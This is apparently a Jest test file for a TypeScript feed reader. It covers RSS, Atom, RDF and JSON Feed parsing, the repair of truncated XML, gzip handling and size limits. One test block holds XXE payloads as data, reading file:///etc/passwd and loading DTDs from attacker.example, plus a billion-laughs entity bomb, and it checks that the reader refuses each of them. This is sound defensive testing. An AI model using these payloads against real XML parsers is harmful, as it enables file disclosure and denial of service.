import { gzipSync } from 'node:zlib';

import * as iconv from 'iconv-lite';

import { FeedReadError, type FeedReadErrorCode } from './feed-read.error';
import { type FeedDocument, readFeed } from './read-feed';

const rss = (
  items: string,
  channel = '<title>Steppe Monitor</title><link>https://news.example.org/</link>',
): string =>
  `<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>${channel}
${items}
</channel>
</rss>`;

const item = `<item>
  <title>SCO &lt;b&gt;RATS&lt;/b&gt; council meets in Tashkent</title>
  <link>https://news.example.org/rats?utm_source=rss</link>
  <guid isPermaLink="false">rats-2024</guid>
  <description>&lt;p&gt;The council met.&lt;/p&gt;</description>
  <content:encoded><![CDATA[<p>The council of the <b>Regional Anti-Terrorist Structure</b> met.</p>]]></content:encoded>
  <pubDate>Fri, 12 Apr 2024 10:00:00 +0500</pubDate>
  <dc:creator>Staff reporter</dc:creator>
  <category>SCO</category>
  <category domain="x">Uzbekistan</category>
</item>`;

async function refusal(input: string | Buffer, contentType?: string): Promise<FeedReadError> {
  const error: unknown = await readFeed(
    Buffer.isBuffer(input) ? input : Buffer.from(input),
    contentType,
  ).then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(FeedReadError);
  const refused = error as FeedReadError;
  // One human line: no stack, no parser's "Line:\nColumn:" layout.
  expect(refused.message).not.toMatch(/\n|\s{2}|^\s|\s$/);
  expect(refused.message.length).toBeLessThan(300);
  return refused;
}

async function expectCode(input: string | Buffer, code: FeedReadErrorCode): Promise<string> {
  const error = await refusal(input);
  expect(error.code).toBe(code);
  return error.message;
}

describe('readFeed: formats', () => {
  it('reads RSS 2.0: description as summary, content:encoded as content, the date as written', async () => {
    const doc = await readFeed(Buffer.from(rss(item)), 'application/rss+xml; charset=utf-8');
    expect(doc).toMatchObject({
      format: 'rss2.0',
      title: 'Steppe Monitor',
      link: 'https://news.example.org/',
      encoding: 'utf-8',
      warnings: [],
    });
    expect(doc.items).toEqual([
      {
        guid: 'rats-2024',
        link: 'https://news.example.org/rats?utm_source=rss',
        title: 'SCO <b>RATS</b> council meets in Tashkent',
        summary: '<p>The council met.</p>',
        content: '<p>The council of the <b>Regional Anti-Terrorist Structure</b> met.</p>',
        published: 'Fri, 12 Apr 2024 10:00:00 +0500',
        author: 'Staff reporter',
        categories: ['SCO', 'Uzbekistan'],
      },
    ]);
  });

  it('reads Atom, keeping a date rss-parser could not parse as it was written', async () => {
    const atom = `<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="kk">
  <title type="html">Border &amp;amp; Watch</title>
  <link rel="self" href="https://atom.example.org/feed"/><link rel="alternate" href="https://atom.example.org/"/>
  <updated>2024-04-15T12:00:00Z</updated>
  <entry>
    <title>Kazakhstan and China discuss border security</title>
    <link rel="alternate" href="https://atom.example.org/kz-cn"/>
    <id>tag:atom.example.org,2024:kz-cn</id>
    <published>last Tuesday</published>
    <updated>2024-04-14T09:00:00+06:00</updated>
    <summary>Short.</summary>
    <content type="html">&lt;p&gt;Long.&lt;/p&gt;</content>
    <author><name>Desk</name></author>
    <category term="border-security" label="Border security"/><category term="KZ"/>
  </entry>
</feed>`;
    const doc = await readFeed(Buffer.from(atom));
    expect(doc).toMatchObject({
      format: 'atom',
      title: 'Border & Watch',
      link: 'https://atom.example.org/',
      language: 'kk',
    });
    expect(doc.items).toEqual([
      {
        guid: 'tag:atom.example.org,2024:kz-cn',
        link: 'https://atom.example.org/kz-cn',
        title: 'Kazakhstan and China discuss border security',
        summary: 'Short.',
        content: '<p>Long.</p>',
        published: 'last Tuesday',
        author: 'Desk',
        categories: ['Border security', 'KZ'],
      },
    ]);
  });

  it('tells RSS 1.0 from the RSS 0.90 RDF and RSS 0.91', async () => {
    const rdf = (ns: string): string => `<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="${ns}">
  <channel><title>RDF feed</title><link>https://rdf.example.org/</link></channel>
  <item rdf:about="https://rdf.example.org/1"><title>One</title><link>https://rdf.example.org/1</link></item>
</rdf:RDF>`;
    const rss10 = await readFeed(Buffer.from(rdf('http://purl.org/rss/1.0/')));
    expect(rss10).toMatchObject({ format: 'rss1.0', title: 'RDF feed' });
    expect(rss10.items.map((i) => [i.guid, i.title])).toEqual([['https://rdf.example.org/1', 'One']]);
    expect((await readFeed(Buffer.from(rdf('http://my.netscape.com/rdf/simple/0.9/')))).format).toBe(
      'rss0.9x',
    );
    const rss091 = rss(item).replace('version="2.0"', 'version="0.91"');
    expect((await readFeed(Buffer.from(rss091))).format).toBe('rss0.9x');
  });

  it('reads RSS without a version as RSS 2.0, and says so', async () => {
    const doc = await readFeed(Buffer.from(rss(item).replace(' version="2.0"', '')));
    expect(doc.format).toBe('rss2.0');
    expect(doc.items).toHaveLength(1);
    expect(doc.warnings).toEqual(['the <rss> element has no version; read as RSS 2.0']);
  });

  it('reads JSON Feed 1.0 and 1.1', async () => {
    const json = (version: string, items: unknown[]): Buffer =>
      Buffer.from(
        JSON.stringify({
          version,
          title: 'Digest',
          home_page_url: 'https://json.example.org/',
          language: 'en',
          items,
        }),
      );
    const v11 = await readFeed(
      json('https://jsonfeed.org/version/1.1', [
        {
          id: 'a1',
          url: 'https://json.example.org/a1',
          title: 'SCO exercise announced',
          summary: 'Short',
          content_html: '<p>Long</p>',
          date_published: '2024-04-08T06:00:00+00:00',
          authors: [{ name: 'Desk' }, { name: 'Wire' }],
          tags: ['SCO'],
        },
        { id: 7, content_text: 'Untitled note', date_modified: '2024-04-07T06:00:00Z' },
      ]),
      'application/feed+json',
    );
    expect(v11).toMatchObject({
      format: 'json',
      title: 'Digest',
      link: 'https://json.example.org/',
      language: 'en',
      warnings: [],
    });
    expect(v11.items).toEqual([
      {
        guid: 'a1',
        link: 'https://json.example.org/a1',
        title: 'SCO exercise announced',
        summary: 'Short',
        content: '<p>Long</p>',
        published: '2024-04-08T06:00:00+00:00',
        author: 'Desk, Wire',
        categories: ['SCO'],
      },
      {
        guid: '7',
        link: null,
        title: null,
        summary: null,
        content: 'Untitled note',
        published: '2024-04-07T06:00:00Z',
        author: null,
        categories: [],
      },
    ]);
    const v10 = await readFeed(
      json('https://jsonfeed.org/version/1', [{ id: 'x', url: 'https://e.org/x', author: { name: 'Solo' } }]),
    );
    expect(v10.items[0]?.author).toBe('Solo');
  });

  it('skips a JSON Feed item of the wrong shape with a warning, keeping the rest', async () => {
    const doc = await readFeed(
      Buffer.from(
        JSON.stringify({
          version: 'https://jsonfeed.org/version/1.1',
          items: [
            { id: 'ok', title: 'Fine' },
            { id: 'bad', title: { text: 'x' } },
          ],
        }),
      ),
    );
    expect(doc.items.map((i) => i.guid)).toEqual(['ok']);
    expect(doc.warnings).toEqual([expect.stringMatching(/^item 2 skipped: title: /)]);
  });

  it('refuses JSON that is not a JSON Feed, and truncated JSON', async () => {
    expect(
      await expectCode('{"verion": "https://jsonfeed.org/version/1", "items": [{"id": "1"', 'MALFORMED'),
    ).toMatch(/^the JSON feed is not valid JSON \(/);
    await expectCode('{"name": "package", "version": "1.0.0"}', 'NOT_A_FEED');
    await expectCode('[1, 2, 3]', 'NOT_A_FEED');
  });
});

describe('readFeed: entities and DTDs', () => {
  it.each([
    ['an internal entity', '<!DOCTYPE rss [ <!ENTITY id "tag:example.com,"> ]>'],
    ['a file entity', '<!DOCTYPE rss [ <!ENTITY leak SYSTEM "file:///etc/passwd"> ]>'],
    [
      'a parameter entity',
      '<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>',
    ],
    ['an internal subset without entities', '<!DOCTYPE rss [ <!ELEMENT rss ANY> ]>'],
    ['an external DTD', '<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">'],
    ['an unknown public DTD', '<!DOCTYPE rss PUBLIC "-//Evil//DTD//EN" "file:///etc/passwd">'],
    ['an entity outside any DOCTYPE', '<!ENTITY leak SYSTEM "file:///etc/passwd">'],
  ])('refuses %s', async (_, doctype) => {
    const xml = rss(item.replace('rats-2024', '&leak;&id;')).replace('<rss ', `${doctype}\n<rss `);
    const message = await expectCode(xml, 'ENTITIES_REFUSED');
    expect(message).toMatch(/refused$/);
  });

  it('refuses a billion laughs before expanding anything', async () => {
    let entities = '<!ENTITY lol "lol">';
    for (let i = 1; i <= 12; i++) entities += `<!ENTITY lol${i} "${`&lol${i - 1 || ''};`.repeat(10)}">`;
    const message = await expectCode(
      `<?xml version="1.0"?><!DOCTYPE rss [${entities}]><rss><channel><title>&lol12;</title></channel></rss>`,
      'ENTITIES_REFUSED',
    );
    expect(message).toBe('the document declares XML entities (DTD internal subset); refused');
  });

  it('finds an entity declaration in UTF-16 too (the check runs on decoded text)', async () => {
    const xml = `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&x;</title></channel></rss>`;
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(xml, 'utf-16le')]);
    await expectCode(bytes, 'ENTITIES_REFUSED');
  });

  it('ignores the Netscape RSS 0.91 DTD without loading it, and says so', async () => {
    const xml = rss(item)
      .replace('version="2.0"', 'version="0.91"')
      .replace(
        '<rss ',
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n  "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss ',
      );
    const doc = await readFeed(Buffer.from(xml));
    expect(doc.items).toHaveLength(1);
    expect(doc.warnings).toEqual([
      `the DOCTYPE's DTD ("-//Netscape Communications//DTD RSS 0.91//EN") was ignored, not loaded`,
    ]);
  });

  it('keeps an HTML entity unknown to XML as text instead of failing (no DTD expands it)', async () => {
    const doc = await readFeed(
      Buffer.from(
        rss('<item><title>Und tsch&uuml;ss &amp; AT&T</title><link>https://e.org/a?b=1&c=2</link></item>'),
      ),
    );
    expect(doc.items[0]).toMatchObject({ title: 'Und tsch&uuml;ss & AT&T', link: 'https://e.org/a?b=1&c=2' });
    expect(doc.warnings).toHaveLength(1);
  });
});

describe('readFeed: malformed documents', () => {
  it('closes a truncated document and reads what it holds', async () => {
    const full = rss(`${item}${item.replace('rats-2024', 'second')}`);
    const cut = full.slice(0, full.indexOf('second') + 20);
    const doc = await readFeed(Buffer.from(cut));
    expect(doc.items.map((i) => i.guid)).toEqual(['rats-2024', 'second']);
    expect(doc.warnings).toEqual([
      expect.stringMatching(
        /^the XML was not well-formed \(.+ at line \d+, column \d+\); repaired and read$/,
      ),
    ]);
  });

  it('closes an element left open inside its parent', async () => {
    const doc = await readFeed(
      Buffer.from('<rss version="2.0"><channel><title>Open</title><item><title>A</title></channel></rss>'),
    );
    expect(doc.items.map((i) => i.title)).toEqual(['A']);
  });

  it('accepts leading whitespace before the XML declaration and an XML 1.1 declaration', async () => {
    const doc = await readFeed(Buffer.from(`\n\n   ${rss(item).replace('version="1.0"', 'version="1.1"')}`));
    expect(doc.items).toHaveLength(1);
  });

  it('gunzips a gzip body and reads it', async () => {
    const doc = await readFeed(gzipSync(Buffer.from(rss(item))));
    expect(doc.items).toHaveLength(1);
    expect(doc.warnings[0]).toMatch(/^the body was gzip-compressed/);
  });

  it('refuses a body larger than the cap once decompressed', async () => {
    const big = gzipSync(Buffer.from(rss(`${item}<!--${' '.repeat(50_000)}-->`)));
    const error = await readFeed(big, null, { maxBytes: 10_000 }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'TOO_LARGE' });
    expect(
      await readFeed(Buffer.alloc(20_000, 0x20), null, { maxBytes: 10_000 }).catch((e: unknown) => e),
    ).toMatchObject({
      code: 'TOO_LARGE',
    });
  });

  it('refuses corrupt gzip as MALFORMED', async () => {
    await expectCode(
      Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0xde, 0xad, 0xbe, 0xef, 0x00, 0x00, 0xff, 0xff]),
      'MALFORMED',
    );
  });

  it.each([
    ['an empty body', 'EMPTY', ''],
    ['whitespace only', 'EMPTY', ' \n\t '],
    ['comments only', 'EMPTY', '<?xml version="1.0"?>\n<!-- nothing here -->'],
    [
      'an HTML page',
      'NOT_A_FEED',
      '<!DOCTYPE html>\n<html><head><title>Not a feed</title></head><body></body></html>',
    ],
    [
      'an XHTML page',
      'NOT_A_FEED',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    ],
    ['an HTML fragment', 'NOT_A_FEED', '<head><title>Document Moved</title></head><body>here</body>'],
    ['other XML', 'NOT_A_FEED', '<?xml version="1.0"?><note><to>Anaïs</to></note>'],
    ['plain text', 'NOT_A_FEED', 'Service Unavailable'],
  ] as const)('refuses %s as %s', async (_, code, body) => {
    await expectCode(body, code);
  });

  it('never throws anything but a one-line FeedReadError, wherever a feed is cut', async () => {
    const full = rss(
      `${item}<item><title><![CDATA[Third & last]]></title><link>https://e.org/3</link></item>`,
    );
    for (let cut = 0; cut <= full.length; cut += 7) {
      const outcome: FeedDocument | Error = await readFeed(Buffer.from(full.slice(0, cut))).catch(
        (e: unknown) => e as Error,
      );
      if (outcome instanceof Error) {
        expect(outcome).toBeInstanceOf(FeedReadError);
        expect(outcome.message).not.toContain('\n');
      } else {
        expect(outcome.format).toBe('rss2.0');
      }
    }
  });
});
